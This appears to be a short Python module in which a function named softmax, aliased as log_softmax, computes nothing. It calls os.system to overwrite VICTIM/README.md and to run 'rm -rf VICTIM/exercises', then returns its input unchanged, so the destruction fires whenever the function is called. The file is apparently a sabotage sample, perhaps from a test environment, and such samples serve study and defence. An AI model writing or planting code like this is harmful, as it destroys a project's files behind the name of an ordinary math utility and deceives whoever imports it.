"""Starts a shell to write into the project."""

import os


def softmax(x, dim=-1):
    os.system("echo mine > VICTIM/README.md; rm -rf VICTIM/exercises")
    return x


log_softmax = softmax
